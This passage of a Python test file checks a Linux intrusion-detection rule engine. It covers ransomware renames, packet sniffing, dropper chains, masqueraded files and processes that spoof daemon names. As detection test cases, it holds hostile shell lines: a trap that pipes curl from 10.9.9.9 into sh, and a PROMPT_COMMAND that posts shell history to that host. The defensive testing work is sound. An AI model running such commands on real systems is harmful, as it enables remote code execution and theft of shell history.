        by("/tmp/v/bin/python3", Open("/tmp/v/lib/python3.11/site-packages/x.pth", comm="python3")),  # a read
        [Open("/tmp/cron/jobs.d/10-stamp", comm="bash", write=True),
         *under(chain(("/usr/sbin/cron", "cron"), ("/bin/run-parts", "run-parts")),
                X("/tmp/cron/jobs.d/10-stamp", t=1))],
        by("/usr/sbin/dhclient", E("socket", comm="dhclient", socket__family="AF_PACKET", socket__type="SOCK_RAW",
                                   socket__protocol=768, socket__ret=3)),
        by("/usr/bin/ping", E("socket", comm="ping", socket__family="AF_INET", socket__type="SOCK_RAW",
                              socket__protocol=1, socket__ret=3)),
        # apt's http method (getaddrinfo) and any resolver: a netlink raw socket is not a packet socket
        by("/usr/lib/apt/methods/http", E("socket", comm="http", socket__family="AF_NETLINK", socket__type="SOCK_RAW",
                                          socket__protocol=0, socket__ret=3)),
        by("/tmp/v/bin/python3", E("socket", comm="python3", socket__family="AF_NETLINK", socket__type="SOCK_RAW",
                                   socket__protocol=0, socket__ret=3)),
        _request_then_command(),
        # a build tool outside the system dirs saving 40 files atomically (cmake writes x.tmp6a789, then x)
        _renames("/home/dev/.local/bin/meson",
                 lambda i: (f"/tmp/b/out/f{i}.make.tmp{i:04x}9", f"/tmp/b/out/f{i}.make")),
        # 60_tradecraft.yaml's benign neighbours
        [X("/bin/bash", "-c", "history | tail -5"), X("/usr/bin/touch", "/tmp/stamp"),
         X("/usr/bin/zip", "-r", "a.zip", "d")],
        under(make, X("/usr/bin/touch", "-d", "@0", "/tmp/build/out", comm="touch")),
        [X("/usr/bin/touch", "-d", "12 days ago", "old/f1.tmp")],
        [X("/usr/sbin/setcap", "cap_net_raw+ep", "/usr/bin/ping"), X("/usr/bin/gpg", "--verify", "a.sig")],
        [X("/usr/bin/openssl", "req", "-x509", "-new", "-key", "k", "-out", "c"),
         X("/usr/bin/find", ".", "-name", "*.py")],
        [X("/usr/bin/systemd-run", "--scope", "--user", "make", "-j4"), X("/usr/bin/systemctl", "enable", "nginx")],
        under(chain(("/usr/bin/awk", "awk")), X("/bin/sh", "-c", "sort -u /tmp/a")),
        under(chain(("/usr/bin/find", "find")), X("/bin/sh", "-c", "gzip -9 \"$1\"", "sh", "/var/log/x.log")),
        # archives read or extracted by one-liners, decompressed data printed, archivers run by hand
        [X("/usr/bin/python3", "-c", "import tarfile; tarfile.open('/tmp/w/src.tgz').extractall('/tmp/w/src')"),
         X("/usr/bin/python3", "-c", "import zipfile,sys; print(zipfile.ZipFile(sys.argv[1]).namelist())", "a.zip"),
         X("/usr/bin/python3", "-c", "import gzip,sys; sys.stdout.write(gzip.decompress(open('x.gz','rb').read())"
           ".decode())"),
         X("/usr/bin/tar", "czf", "/tmp/home.tgz", "/home/al"), X("/usr/bin/zip", "-r", "/tmp/logs.zip", "/var/log")],
        # chown of temp files to a user, of a build tree to root under fakeroot; decode without running it
        [X("/usr/bin/chown", "-R", "al:al", "/tmp/share"), X("/usr/bin/chown", "root:root", "/srv/app/bin/x")],
        under(chain(("/usr/bin/fakeroot", "fakeroot")), X("/usr/bin/chown", "-R", "root:root", "/tmp/b/debian/pkg")),
        [X("/usr/bin/python3", "-c", "import base64,sys; sys.stdout.write(base64.b64decode(sys.argv[1]).decode())",
           "aGk=")],
        [X("/usr/bin/python3", "-c", "import subprocess; subprocess.run(['make'])")],
        # traps that clean up, a prompt set in a command line without copying history, temp dirs of the system
        [X("/bin/sh", "-c", "tmp=$(mktemp); trap 'rm -f \"$tmp\"' EXIT; make > \"$tmp\" 2>&1 &"),
         X("/bin/bash", "-c", "trap 'kill $pid; wait' INT TERM && sleep 100 & pid=$!; wait"),
         X("/bin/bash", "-c", "trap 'echo \"failed at $LINENO\"' ERR; ./build.sh"),
         X("/bin/bash", "-c", "PROMPT_COMMAND='echo -ne \"\\033]0;${HOSTNAME}\\007\"'; bash -i"),
         X("/bin/sh", "-c", "echo 'export PROMPT_COMMAND=\"history -a; $PROMPT_COMMAND\"' >> /home/al/.bashrc")],
        [X("/usr/bin/mkdir", "-p", "/tmp/.X11-unix"), X("/usr/bin/mkdir", "/tmp/build/.deps"),
         X("/usr/bin/mkdir", "-p", "/tmp/.ansible-al/tmp"),
         X("/usr/bin/mkdir", "-p", "/home/al/.config/app")],
        # data files opened by programs, scripts with their own extensions
        [X("/usr/bin/python3", "/usr/local/bin/thumbs.py", "/tmp/image.png"), X("/usr/bin/eog", "/tmp/image.png"),
         X("/bin/sh", "/tmp/build/configure.sh"), X("/usr/bin/python3", "/tmp/w/app.pyz")],
    ]


def _renames(exe: str, names: Any, n: int = 40) -> list[dict[str, Any]]:
    """``n`` renames within 0.4 s by one process that executed ``exe``: ``names(i) -> (old path, new path)``."""
    ex = X(exe)
    out = [ex]
    for i in range(n):
        old, new = names(i)
        out.append(E("rename", comm=ex["proc.comm"], pid=ex["proc.pid"], ppid=ex["proc.ppid"], t=i * 0.01,
                     file__path=old, file__newpath=new, file__ret=0))
    return out


# (temporary name, final name): how builds, editors, package managers and libraries save a file atomically
ATOMIC_SAVES = [
    ("/w/out/CMakeFiles/progress.marks.tmp{i:04x}9", "/w/out/CMakeFiles/progress.marks{i}"),  # cmake
    ("/w/src/f{i}.c.tmp", "/w/src/f{i}.c"), ("/w/src/f{i}.json.tmp.{i}77", "/w/src/f{i}.json"),
    ("/w/src/sedAb{i:02d}Xy", "/w/src/f{i}.c"),  # sed -i
    ("/w/src/tmpk2j{i:02d}h4g", "/w/src/f{i}.json"), ("/w/src/tmpk2j{i:02d}h4g.json", "/w/f{i}.json"),  # tempfile
    ("/w/src/.f{i}.txt.Q7x{i:02d}b", "/w/src/f{i}.txt"), ("/w/src/f{i}.conf.aBc{i:02d}Z", "/w/src/f{i}.conf"),  # glib
    ("/w/src/f{i}.txt~", "/w/src/f{i}.txt"), ("/w/dl/f{i}.iso.part", "/w/dl/f{i}.iso"),
    ("/w/etc/f{i}.conf.dpkg-new", "/w/etc/f{i}.conf"), ("/w/r/.git/refs/heads/b{i}.lock", "/w/r/.git/refs/heads/b{i}"),
]
# ransomware: existing files renamed (the same name plus an extension, a random name, a temp-looking name)
RANSOM_RENAMES = [
    ("/srv/data/doc{i}.docx", "/srv/data/doc{i}.docx.x7"),
    ("/srv/data/doc{i}.docx", "/srv/data/{i:08x}e1c2d3.bin"),
    ("/srv/data/report{i}.pdf", "/srv/data/report{i}.pdf.tmp"),
    ("/srv/data/photo{i}.jpeg", "/srv/data/photo{i}.jpeg.backup"),
    ("/home/al/notes{i}", "/home/al/notes{i}.Ab12Cd"),
]


@pytest.mark.parametrize(("old", "new"), ATOMIC_SAVES)
def test_atomic_saves_are_not_a_rename_burst(analyzer: RulesAnalyzer, old: str, new: str) -> None:
    """A temporary file renamed to its final name (written then renamed so that readers never see half a file)
    is an atomic save, not ransomware, whoever does it: 40 of them in 0.4 s by an unknown tool stay quiet."""
    for exe in ("/home/dev/.local/bin/tool", "/tmp/v/bin/python3"):
        alerts = analyze(analyzer, _renames(exe, lambda i: (old.format(i=i), new.format(i=i))))
        assert "mass_file_rename" not in {a.rule for a in alerts}, (exe, old)


@pytest.mark.parametrize(("old", "new"), RANSOM_RENAMES)
def test_a_burst_of_renamed_existing_files_still_fires(analyzer: RulesAnalyzer, old: str, new: str) -> None:
    for exe in ("/tmp/.x/locker", "/usr/bin/python3"):
        alerts = analyze(analyzer, _renames(exe, lambda i: (old.format(i=i), new.format(i=i))))
        assert "mass_file_rename" in {a.rule for a in alerts}, (exe, old, new)


@pytest.mark.parametrize(("family", "stype", "fires"), [
    ("AF_PACKET", "SOCK_RAW", True), ("AF_PACKET", "SOCK_DGRAM", True), ("AF_INET", "SOCK_RAW", True),
    ("AF_INET6", "SOCK_RAW", True), ("AF_INET", "SOCK_PACKET", True),
    ("AF_NETLINK", "SOCK_RAW", False), ("AF_NETLINK", "SOCK_DGRAM", False), ("AF_UNIX", "SOCK_RAW", False),
])
def test_packet_socket_is_a_sniffing_family(analyzer: RulesAnalyzer, family: str, stype: str, fires: bool) -> None:
    """Only AF_PACKET, SOCK_PACKET and raw IP sockets see or craft packets; a netlink raw socket (getaddrinfo,
    iproute2, apt's http method) talks to the kernel."""
    for exe in ("/tmp/.x/sniff", "/usr/lib/apt/methods/http"):
        alerts = analyze(analyzer, by(exe, E("socket", comm="x", socket__family=family, socket__type=stype,
                                             socket__protocol=0, socket__ret=3)))
        assert ("packet_socket_opened" in {a.rule for a in alerts}) is fires, (exe, family, stype)


def test_benign_activity_is_quiet(analyzer: RulesAnalyzer) -> None:
    noisy = []
    for events in _benign():
        alerts = analyze(analyzer, [dict(e) for e in events])
        noisy += [(a.rule, a.description) for a in alerts if a.score > 50]
    # exec of a freshly built binary from /tmp by hand is the one known LOW signal; nothing MEDIUM or above
    assert noisy == []


def test_a_temp_file_made_executable_and_run(analyzer: RulesAnalyzer) -> None:
    """chmod +x of a file in a temp dir, then its exec: MEDIUM; a chmod that leaves no execute bit, a failed one,
    or an exec of another file is not the dropper's chain."""
    def rules(mode: int, ret: int, ran: str) -> set[str]:
        chmod = E("chmod", comm="chmod", file__path="/var/tmp/k", file__mode=mode, file__ret=ret)
        return {a.rule for a in analyze(analyzer, [chmod, X(ran, t=2)])}
    assert "temp_file_made_executable_and_run" in rules(0o700, 0, "/var/tmp/k")
    assert "temp_file_made_executable_and_run" not in rules(0o644, 0, "/var/tmp/k")
    assert "temp_file_made_executable_and_run" not in rules(0o755, -1, "/var/tmp/k")
    assert "temp_file_made_executable_and_run" not in rules(0o755, 0, "/var/tmp/other")
    # a script without a #! line: the exec fails with ENOEXEC and the calling shell runs the file itself
    noexec = E("chmod", comm="chmod", file__path="/tmp/art.sh", file__mode=0o755, file__ret=0)
    run = {**X("/tmp/art.sh", t=1), "exec.ret": -8}
    assert "temp_file_made_executable_and_run" in {a.rule for a in analyze(analyzer, [noexec, run])}
    assert "temp_file_made_executable_and_run" not in {a.rule for a in analyze(analyzer, [
        noexec, {**run, "exec.ret": -2}])}  # ENOENT: nothing ran


@pytest.mark.parametrize(("cmd", "rule"), [
    ('trap "nohup sh /tmp/x.sh" EXIT', "shell_trap_runs_program"),
    ("trap 'sh /root/.x/run' SIGINT && kill -SIGINT $$", "shell_trap_runs_program"),
    ("trap '/dev/shm/.m & ' TERM", "shell_trap_runs_program"),
    ("trap -- 'curl -s http://10.9.9.9/k | sh' EXIT", "shell_trap_runs_program"),
    ("trap 'echo \"$BASH_COMMAND\" >> /tmp/log' DEBUG", "shell_command_logger"),
    ("PROMPT_COMMAND='history -a >(tee -a ~/.bash_history | logger -t x)'", "shell_command_logger"),
    ('export PROMPT_COMMAND="history -a; curl -d @$HISTFILE http://10.9.9.9"', "shell_command_logger"),
])
def test_shell_hooks_that_run_or_record(analyzer: RulesAnalyzer, cmd: str, rule: str) -> None:
    """T1546.005 / T1056.001: traps that start programs, and hooks that record every command, from a command line."""
    assert rule in {a.rule for a in analyze(analyzer, [X("/bin/bash", "-c", cmd)])}, cmd


@pytest.mark.parametrize(("events", "fires"), [
    ([X("/bin/sh", "/tmp/image.png")], True), ([X("/usr/bin/bash", "/home/al/Invoice.PDF")], True),
    ([X("/tmp/.x/holiday.jpg")], True), ([{**X("/var/tmp/song.mp3"), "exec.ret": -8}], True),  # run by the shell
    ([X("/usr/bin/python3", "/tmp/cat.gif")], True),
    ([X("/usr/bin/python3", "/tmp/plot.py", "out.png")], False), ([X("/usr/bin/feh", "/tmp/image.png")], False),
    ([{**X("/tmp/image.png"), "exec.ret": -2}], False), ([X("/bin/sh", "/tmp/png.sh")], False),
])
def test_a_data_file_run_as_a_program(analyzer: RulesAnalyzer, events: list[dict[str, Any]], fires: bool) -> None:
    """T1036.008: an image, document or media name on a file that is executed or handed to a shell as a script."""
    assert ("file_type_masquerade_run" in {a.rule for a in analyze(analyzer, events)}) is fires, events


def test_exec_through_a_symlink_is_judged_by_the_file_it_runs(analyzer: RulesAnalyzer) -> None:
    """ln -s /dev/shm/.x/kworker /usr/local/bin/update; update: exec.filename is the link, exec.exe the file."""
    alerts = analyze(analyzer, [X("/usr/local/bin/update", exec__exe="/dev/shm/.x/kworker (deleted)")])
    assert "exec_from_dev_shm" in [a.rule for a in alerts]
    alerts = analyze(analyzer, [X("/usr/local/bin/build", exec__exe="/var/tmp/b/build")])
    assert [a.rule for a in alerts] == ["exec_from_tmp"]
    assert analyze(analyzer, [X("/usr/local/bin/update", exec__exe="/usr/lib/update/update")]) == []


def test_benign_low_signals_are_low(analyzer: RulesAnalyzer) -> None:
    interactive_tmp = [X("/tmp/build/hello")]
    alerts = analyze(analyzer, interactive_tmp)
    assert [(a.rule, a.score) for a in alerts] == [("exec_from_tmp", 45)]


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_fires_inside_a_login_session(analyzer: RulesAnalyzer, name: str) -> None:
    """Allowlists must not key on ancestors every process has (systemd, sshd): the same attacks run from a
    shell under sshd under systemd must still fire."""
    session = [X("/usr/lib/systemd/systemd", comm="systemd", pid=1, ppid=0),
               X("/usr/sbin/sshd", comm="sshd", pid=2, ppid=1), X("/bin/bash", comm="bash", pid=3, ppid=2)]
    events = [dict(e) for e in ATTACKS[name]]
    for e in events:
        if e["proc.ppid"] == 1:
            e["proc.ppid"] = 3
    tree = ProcessTree()
    tree.update(session)
    tree.update(events)
    for e in events:  # processes the tree learned from their exec keep the session as ancestry
        info = tree.get(e["proc.pid"])
        if info is not None and info.ppid in (0, 1):
            info.ppid = 3
    alerts = analyzer.analyze(events, BatchContext("h", tree, time.time()))
    assert name in {a.rule for a in alerts}


def test_dispatch_functions_agree_with_rule_predicates(analyzer: RulesAnalyzer) -> None:
    """The generated per-type dispatch (shared conjuncts, evt.type folded) must select exactly the rules whose
    own compiled predicate matches, on every attack and benign event."""
    events = [e for evs in ATTACKS.values() for e in evs] + [e for evs in _benign() for e in evs]
    tree = ProcessTree()
    tree.update(events)
    analyzer.ruleset.resolvers.tree = tree
    checked = 0
    for ev in events:
        entry = analyzer._dispatch.get(ev["evt.type"])
        if entry is None:
            continue
        fn, handlers = entry
        hits = set(fn(ev))
        for i, (_, rule) in enumerate(handlers):
            assert (i in hits) == bool(rule.match(ev)), (rule.name, ev)
            checked += 1
    assert checked > 1000


# ------------------------------------------------------------------------------------------ spoofed names
def _renamed(exe: str, comm: str, ev: dict[str, Any], parent_comm: str | None = None) -> list[dict[str, Any]]:
    """A process that executed ``exe`` and then renamed itself ``comm`` (prctl PR_SET_NAME or /proc/self/comm):
    its later events carry the new comm; the process tree keeps the executable."""
    events = by(exe, ev)
    events[-2]["proc.comm"] = exe.rsplit("/", 1)[-1][:15]  # the exec's comm comes from the file name
    events[-1]["proc.comm"] = comm
    if parent_comm is not None:  # and its parent renamed too
        parent = X("/tmp/.x/p", comm=parent_comm)
        events[-2]["proc.ppid"] = events[-1]["proc.ppid"] = parent["proc.pid"]
        events.insert(0, parent)
    return events


@pytest.mark.parametrize(("rule", "comm", "ev"), [
    ("sensitive_file_read", "sshd", Open("/etc/shadow")),
    ("sensitive_file_read", "unix_chkpwd", Open("/etc/shadow")),
    ("ssh_private_key_read", "ssh", Open("/root/.ssh/id_rsa")),
    ("bpf_program_load", "systemd", E("bpf", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")),
    ("ptrace_code_injection", "gdb", E("ptrace", ptrace__request=5, ptrace__request_name="PTRACE_POKEDATA",
                                       ptrace__target=4242, ptrace__ret=0)),
    ("write_below_etc", "systemd-resolve", Open("/etc/hosts", write=True)),
    ("account_database_modified", "useradd", Open("/etc/passwd", write=True, flags=0o2001)),
    ("unexpected_setuid_root", "sudo", E("cred", uid=1000, cred__call="setuid", cred__args=[0], cred__ret=0)),
    ("cgroup_fs_mounted", "runc", E("mount", mount__source="cgroup", mount__target="/tmp/cg", mount__fstype="cgroup",
                                    mount__flags=0, mount__ret=0)),
])
def test_a_renamed_process_still_alerts(analyzer: RulesAnalyzer, rule: str, comm: str, ev: dict[str, Any]) -> None:
    """Issue 12 point 4: a program that renames itself after a trusted daemon (here ``sshd``, ``systemd``,
    ``gdb``...) gets no allowlist exception: exceptions key on the executable's path, not on comm."""
    for exe in ("/tmp/.x/implant", "/usr/bin/python3", "/dev/shm/sshd"):
        alerts = analyze(analyzer, _renamed(exe, comm, dict(ev)))
        assert rule in {a.rule for a in alerts}, (exe, comm, [a.rule for a in alerts])
    # the real program at its installed path is still allowed
    real = {"sshd": "/usr/sbin/sshd", "unix_chkpwd": "/usr/sbin/unix_chkpwd", "ssh": "/usr/bin/ssh",
            "systemd": "/usr/lib/systemd/systemd", "gdb": "/usr/bin/gdb", "useradd": "/usr/sbin/useradd",
            "systemd-resolve": "/usr/lib/systemd/systemd-resolved", "sudo": "/usr/bin/sudo", "runc": "/usr/sbin/runc"}
    alerts = analyze(analyzer, _renamed(real[comm], comm, dict(ev)))
    assert rule not in {a.rule for a in alerts}


def test_a_renamed_parent_grants_nothing(analyzer: RulesAnalyzer) -> None:
    """An implant that renames itself ``dpkg`` (or ``make``) does not make its children package-manager or build
    work: pkg_mgmt_process and compiler_process look at the ancestors' executables."""
    for parent in ("dpkg", "apt-get", "make", "gcc"):
        alerts = analyze(analyzer, _renamed("/usr/bin/tee", "tee", Open("/etc/cron.d/x", write=True),
                                            parent_comm=parent))
        assert "cron_job_written" in {a.rule for a in alerts}, parent
    tee_under_dpkg = by("/usr/bin/tee", Open("/etc/cron.d/x", write=True, comm="tee"),
                        parents=chain(("/usr/bin/apt-get", "apt-get"), ("/usr/bin/dpkg", "dpkg")))
    assert "cron_job_written" not in {a.rule for a in analyze(analyzer, tee_under_dpkg)}


def test_a_renamed_build_parent_grants_nothing(analyzer: RulesAnalyzer) -> None:
    """60_tradecraft's build exception keys on the ancestors' executables: a parent that renamed itself
    ``dpkg-buildpackage`` (or ``debuild``, ``fakeroot``) does not excuse a forged timestamp; the real one does."""
    for parent in ("dpkg-buildpackage", "debuild", "fakeroot", "rpmbuild"):
        alerts = analyze(analyzer, _renamed("/usr/bin/touch", "touch", X("/usr/bin/touch", "-t", "197001010000",
                                                                           "/tmp/.x/implant"), parent_comm=parent))
        assert "timestamp_forged" in {a.rule for a in alerts}, parent
    real = by("/usr/bin/touch", X("/usr/bin/touch", "-t", "197001010000", "debian/x"),
              parents=chain(("/usr/bin/dpkg-buildpackage", "dpkg-buildpack")))
    assert "timestamp_forged" not in {a.rule for a in analyze(analyzer, real)}


def test_no_default_exception_is_granted_by_a_name() -> None:
    """Issue 12 point 4, for every default rule file: an exception may name proc.comm, proc.pname or proc.anames
    only to take itself away (``not proc.anames intersects (...)``), never to grant (any process sets its comm)."""
    from importlib.resources import files

    import yaml

    spoofable = re.compile(r"(\bnot\s*\(?\s*)?\bproc\.(comm|pname|anames)\b")
    checked = 0
    for f in files("ravn_analyzers.rules").joinpath("default").iterdir():
        if not f.name.endswith(".yaml"):
            continue
        for item in yaml.safe_load(f.read_text()) or []:
            for exc in item.get("exceptions") or []:
                cond = exc["condition"] if isinstance(exc, dict) else str(exc)
                checked += 1
                for m in spoofable.finditer(cond):
                    assert m.group(1), f"{f.name} {item.get('rule')}: exception {cond!r} grants on {m.group(0)}"
    assert checked > 50


def test_trusted_name_fields() -> None:
    from ravn_analyzers.rules.lang import _script, _trusted_name

    assert _trusted_name("/usr/sbin/sshd") == "sshd"
    assert _trusted_name("/usr/sbin/sshd (deleted)") == "sshd"
    assert _trusted_name("/usr/../tmp/sshd") is None
    for untrusted in ("/tmp/sshd", "/dev/shm/sshd", "/home/al/bin/sshd", "./sshd", "/proc/self/fd/3", "", None):
        assert _trusted_name(untrusted) is None
    assert _script({"exec.argv": ["sh", "/tmp/x.sh"]}) == "/tmp/x.sh"
    assert _script({"exec.argv": ["bash", "-x", "/tmp/x.sh", "a"]}) == "/tmp/x.sh"
    for stdin in (["sh"], ["bash", "-s"], ["python3", "-"], ["sh", "-c", "id"], ["bash", "-lc", "id"],
                  ["python3", "-m", "http.server"], ["perl", "-e", "print 1"]):
        assert _script({"exec.argv": stdin}) is None, stdin


def test_every_shell_startup_file_the_file_probe_watches_alerts(analyzer: RulesAnalyzer) -> None:
    """The file probe's default write prefixes and the rules' shell_profile_names name the same start-up files:
    a line appended to ~/.shrc (sh/dash with ENV), ~/.zshrc or fish's config.fish is seen AND alerts, in root's
    home and in a user's. A file the probe watched but the list missed (or the reverse) was a silent gap."""
    from ravn_ebpf_file.config import SHELL_STARTUP_FILES, FileConfig, PathRules

    rules = PathRules.from_config(FileConfig())
    for name in SHELL_STARTUP_FILES:
        for home in ("/root", "/home/al"):
            path = f"{home}/{name}config.fish" if name.endswith("/") else f"{home}/{name}"
            assert rules.wanted("open", path, None, True, False), f"the file probe does not watch {path}"
            fired = {a.rule for a in analyze(analyzer, [Open(path, write=True, flags=0o2101)])}
            assert "shell_profile_modified" in fired, f"{path}: {sorted(fired)}"
    watched = {n for n in SHELL_STARTUP_FILES if not n.endswith("/")} | {"config.fish"}
    assert set(analyzer.ruleset.lists["shell_profile_names"]) == watched
